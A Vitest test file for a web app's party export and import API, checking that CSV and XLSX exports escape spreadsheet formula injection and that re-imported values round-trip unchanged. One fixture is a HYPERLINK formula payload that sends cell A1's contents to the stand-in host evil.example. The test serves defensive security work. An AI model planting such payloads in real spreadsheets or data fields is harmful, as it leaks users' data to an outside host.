import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { setup } from './harness.ts';

const h = await setup();
const admin = h.as(h.org.admin);
const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

const created = await admin.post('/api/parties', {
  kind: 'person',
  displayName: evil,
  externalId: 'inj-1',
  phones: ['+86 138 0013 8000'],
  tags: ['@SUM(1+1)', '-2+3', 'plain'],
});
expect(created.statusCode, created.body).toBe(201);

describe('exports against formula injection (OWASP)', () => {
  it('escapes cells starting with = + - @ in CSV, and an import brings the values back unchanged', async () => {
    const res = await admin.get('/api/parties/export?raw=true&q=hyperlink&columns=externalId,displayName,phones,tags');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain(`"'=HYPERLINK(`);
    expect(res.body).toContain("'+8613800138000");
    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // The file re-imported into another organisation gives the same values, not the escaped ones.
    const other = await h.newOrg('inj-other');
    const up = await h.as(other.admin).post(`/api/imports?entity=parties&fileName=p.csv`, Buffer.from(res.body), {
      headers: { 'content-type': 'text/csv' },
    });
    expect(up.statusCode, up.body).toBe(201);
    const id = up.json().job.id;
    expect((await h.as(other.admin).post(`/api/imports/${id}/start`, {})).statusCode).toBe(202);
    for (let i = 0; i < 200; i++) {
      const job = (await h.as(other.admin).get(`/api/imports/${id}`)).json();
      if (!['queued', 'running'].includes(job.status)) {
        break;
      }
      await new Promise((r) => setTimeout(r, 50));
    }
    const back = (await h.as(other.admin).get('/api/parties?q=hyperlink')).json().items;
    expect(back).toHaveLength(1);
    expect(back[0]).toMatchObject({ displayName: evil, phones: ['+8613800138000'] });
    expect(back[0].tags.sort()).toEqual(['-2+3', '@SUM(1+1)', 'plain']);
  });

  it('escapes them in XLSX too: every cell is text, none a formula', async () => {
    const res = await admin.get('/api/parties/export?raw=true&q=hyperlink&format=xlsx&columns=displayName,tags');
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const row = wb.worksheets[0]?.getRow(2);
    expect(row?.getCell(1).value).toBe(`'${evil}`);
    expect(row?.getCell(2).value).toMatch(/^'@SUM/);
    expect(row?.getCell(1).formula).toBeUndefined();
  });

  it('refuses a bad export request with a JSON error before any byte of the file', async () => {
    const res = await admin.get('/api/parties/export?columns=displayName,nonsense');
    expect(res.statusCode).toBe(400);
    expect(res.headers['content-disposition']).toBeUndefined();
    expect(res.headers['content-encoding']).toBeUndefined();
    expect(res.json().error.code).toBe('VALIDATION_FAILED');
  });

  it('marks every API answer as not to be stored', async () => {
    for (const url of ['/api/auth/me', '/api/parties', '/api/parties/export?q=hyperlink', '/api/nope']) {
      expect((await admin.get(url)).headers['cache-control'], url).toBe('no-store');
    }
  });
});
